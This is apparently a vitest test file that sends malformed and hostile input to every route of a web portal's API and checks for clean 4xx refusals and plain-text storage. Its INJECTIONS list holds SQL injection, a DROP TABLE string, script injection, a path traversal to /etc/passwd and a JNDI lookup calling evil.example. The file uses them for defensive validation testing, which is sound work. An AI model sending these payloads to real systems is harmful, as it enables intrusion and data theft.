import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiErrorSchema, SpecErrorSchema, WmsErrorSchema } from '@portal/contract/errors';
import { API } from '@portal/contract/paths';
import { testDialects } from '@portal/db/testing';
import { type Answer, call, type CallOptions } from './http.ts';
import { buildTestApp, type TestApp } from './test-server.ts';
import { addUser } from './users.ts';
import { apiRoutes, type Route } from './route-tree.ts';
import { translator } from '@portal/contract/messages';

const t = translator();

const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{"$gt": ""}',
  '\u0000\u202e',
];
const FIELDS = [
  'email',
  'password',
  'confirmPW',
  'username',
  'organization',
  'country',
  'useOfData',
  'id',
  'name',
  'currentPassword',
];
const every = (value: unknown) => Object.fromEntries(FIELDS.map((field) => [field, value]));

/** Bodies no route accepts: broken JSON, wrong shapes and types, missing fields, injection strings. */
const BAD_BODIES: { name: string; body: string; contentType?: string }[] = [
  { name: 'malformed JSON', body: '{"email": "a@b.co",' },
  { name: 'an empty JSON body', body: '' },
  { name: 'JSON null', body: 'null' },
  { name: 'a JSON array', body: '[{"email": "a@b.co"}]' },
  { name: 'a JSON string', body: '"a@b.co"' },
  { name: 'no fields at all', body: '{}' },
  { name: 'numbers for every field', body: JSON.stringify(every(12345)) },
  { name: 'arrays for every field', body: JSON.stringify(every(['a@b.co'])) },
  { name: 'objects for every field', body: JSON.stringify(every({ $ne: null })) },
  { name: 'a prototype pollution attempt', body: '{"__proto__": {"admin": true}, "email": "a@b.co"}' },
  // Into the fields with a format; free text may hold anything and is checked for plain storage below.
  ...INJECTIONS.map((text) => ({
    name: `the injection ${JSON.stringify(text)}`,
    body: JSON.stringify({ email: text, id: text, password: text, confirmPW: text }),
  })),
  { name: 'form encoding', body: 'email=a%40b.co&password=12345678', contentType: 'application/x-www-form-urlencoded' },
  { name: 'XML', body: '<email>a@b.co</email>', contentType: 'application/xml' },
  { name: 'a body over 1 MB', body: JSON.stringify({ ...every('x'), useOfData: 'x'.repeat(1024 * 1024 + 1) }) },
];

/** The message of an error answer, in either shape (the spec's calls or /api/v1). */
const messageOf = (answer: Answer): unknown =>
  typeof answer.body?.error === 'string' ? answer.body.error : answer.body?.error?.message;

/**
 * The error shape a route answers in: the open API's, the spec's map call's, or the spec's. (Through
 * a socket a request line and headers too long are refused before routing, in the spec's shape
 * whatever the route; errors.test.ts sends those.)
 */
const shapeOf = (url: string) =>
  url.startsWith('/api/v1/') ? ApiErrorSchema : url === API.wms ? WmsErrorSchema : SpecErrorSchema;

for (const { dialect, available } of await testDialects()) {
  describe.skipIf(!available)(`bad input to every /api route on ${dialect}`, () => {
    let server: TestApp;
    let session: string;
    let routes: Route[];
    /** The statuses the OpenAPI document lists per route, as 'METHOD /fastify/:path'. */
    let documented: Map<string, string[]>;
    let client = 0;
    // Each request comes from its own address so that rate limits never stand in for validation.
    const send = (path: string, options: CallOptions) =>
      call(server, path, {
        ...options,
        headers: { 'x-forwarded-for': `10.9.${client >> 8}.${client++ & 255}`, ...options.headers },
      });

    const expectClearRefusal = (answer: Answer, what: string, route: Route) => {
      expect(answer.status, what).toBeGreaterThanOrEqual(400);
      expect(answer.status, what).toBeLessThan(500);
      expect(answer.status, what).not.toBe(429);
      expect(messageOf(answer), what).toEqual(expect.stringMatching(/\w{3,}/));
      // Each answer in its route's shape, and a status the OpenAPI document lists for the route.
      expect(shapeOf(route.url).safeParse(answer.body).success, `${what}: ${JSON.stringify(answer.body)}`).toBe(true);
      const listed = documented.get(`${route.method} ${route.url}`);
      if (listed) expect(listed, what).toContain(String(answer.status));
    };

    beforeAll(async () => {
      // No datasets awaited: /api/ready answers 200, so a refusal from it would be the input's doing.
      server = await buildTestApp(dialect, { trustProxy: 1, expectedDatasets: [] });
      await addUser(server.db, 'tester@example.org', 'the right password');
      session = (
        await call(server, API.login, { body: { email: 'tester@example.org', password: 'the right password' } })
      ).session!;
      routes = apiRoutes(server.app.printRoutes({ commonPrefix: false }));
      const doc = (await call(server, API.openapi)).body;
      documented = new Map(
        Object.entries(doc.paths as Record<string, Record<string, { responses: Record<string, unknown> }>>).flatMap(
          ([path, operations]) =>
            Object.entries(operations).map(([method, operation]) => [
              `${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`,
              Object.keys(operation.responses),
            ]),
        ),
      );
    });
    afterAll(async () => {
      await server?.close();
    });

    it('finds the routes of the spec, the catalogue and My account', () => {
      const names = routes.map((r) => `${r.method} ${r.url}`);
      for (const expected of [
        `POST ${API.login}`,
        `POST ${API.signup}`,
        `POST ${API.logout}`,
        `GET ${API.sectors}`,
        'GET /api/v1/sectors/:sector',
        `POST ${API.apiTokens}`,
        'DELETE /api/v1/account/tokens/:id',
      ]) {
        expect(names).toContain(expected);
      }
      // Every route but the hidden ones (the reference and its document, health and readiness, the open API's catch-all) is in the OpenAPI document.
      const hidden = [API.openapi, API.health, API.ready, '/api/v1/*', API.mapOutline];
      const isHidden = (name: string) =>
        hidden.some((path) => name.endsWith(` ${path}`)) || name.includes(` ${API.docs}`);
      expect(names.filter((name) => !documented.has(name) && !isHidden(name))).toEqual([]);
    });

    it('refuses every bad body with a 4xx and a clear message, with and without a session', async () => {
      const writes = routes.filter((r) => r.method !== 'GET');
      expect(writes.length).toBeGreaterThanOrEqual(10);
      for (const route of writes) {
        const path = route.url.replace(/:\w+/g, '6f1c8a52-3f0e-4d3a-9a53-8d3f7c1e0a11');
        for (const bad of BAD_BODIES) {
          for (const withSession of [false, true]) {
            const answer = await send(path, {
              method: route.method,
              body: bad.body,
              session: withSession ? session : undefined,
              headers: { 'content-type': bad.contentType ?? 'application/json' },
            });
            // A DELETE needs no body, so a harmless one may pass on to 'no such token' (404).
            expectClearRefusal(
              answer,
              `${route.method} ${route.url} with ${bad.name}${withSession ? ' (logged in)' : ''}`,
              route,
            );
            if (bad.name === 'a body over 1 MB') expect(answer.status).toBe(413);
            if (bad.name === 'malformed JSON') expect(answer.status).toBeLessThanOrEqual(401);
          }
        }
      }
    });

    it("answers the spec's calls in the form rules' own words, the first broken rule per field", async () => {
      const answer = await send(API.login, { body: { email: '', password: 'short' } });
      expect(answer).toMatchObject({
        status: 400,
        body: { error: `${t('field.emailRequired')}; ${t('field.passwordMin')}`, code: 'VALIDATION_FAILED' },
      });
      const v1 = await send(API.apiTokens, { session, body: { name: '' } });
      expect(v1).toMatchObject({
        status: 400,
        body: { error: { message: 'Invalid request (body): name: Give the token a name' } },
      });
    });

    // A query string too long for the HTTP parser is refused before routing: errors.test.ts sends one to every route.
    it('refuses injection strings and oversized values in the path parameters of every route', async () => {
      const withParameters = routes.filter((route) => route.url.includes(':'));
      expect(withParameters.length).toBeGreaterThanOrEqual(10);
      for (const route of withParameters) {
        for (const text of [...INJECTIONS, 'x'.repeat(5000)]) {
          const path = route.url.replace(/:\w+/g, encodeURIComponent(text));
          expectClearRefusal(
            await send(path, { method: route.method, session }),
            `${route.method} ${path.slice(0, 80)}`,
            route,
          );
        }
      }
    });

    it('refuses text holding NUL in a path, query or body with a 400, on either database', async () => {
      // PostgreSQL cannot take NUL in a query: these answered 500 there and passed on SQLite.
      const calls: [string, CallOptions][] = [
        [`${API.wms}?store=energy%00`, {}],
        [`${API.layerValue('rainfall\u0000')}?lat=-1.2&lon=36.8`, {}],
        [`${API.search}?q=water%00`, {}],
        [
          API.preview,
          {
            body: {
              start: '2019-01-01',
              end: '2019-12-31',
              variables: ['Farming households\u0000'],
              locations: ['Nakuru'],
            },
          },
        ],
        [API.apiTokens, { session, body: { name: 'a\u0000' } }],
        [
          API.preview,
          { body: { start: '2019-01-01', end: '2019-12-31', variables: ['x'], locations: ['Nakuru'], ['\u0000']: 1 } },
        ],
      ];
      for (const [path, options] of calls) {
        const answer = await send(path, options);
        expect(answer.status, path).toBe(400);
        expect(shapeOf(path.split('?')[0]).safeParse(answer.body).success, path).toBe(true);
      }
    });

    it('stores free text holding injection strings as plain text, and the tables survive', async () => {
      const text = INJECTIONS.slice(0, 3).join(' ');
      const answer = await send(API.signup, {
        body: {
          username: text.slice(0, 100),
          email: 'quoted@example.org',
          password: 'pa\'ss"word--',
          confirmPW: 'pa\'ss"word--',
          organization: text,
          country: "Cote d'Ivoire",
          useOfData: text,
        },
      });
      expect(answer.status).toBe(201);
      const row = await server.db
        .selectFrom('users')
        .selectAll()
        .where('email', '=', 'quoted@example.org')
        .executeTakeFirstOrThrow();
      expect(row).toMatchObject({ organization: text, use_of_data: text, country: "Cote d'Ivoire" });
      expect((await server.db.selectFrom('users').select('id').execute()).length).toBe(2);
      const token = await send(API.apiTokens, { session, body: { name: INJECTIONS[1] } });
      expect(token).toMatchObject({ status: 201, body: { name: INJECTIONS[1] } });
    });
  });
}
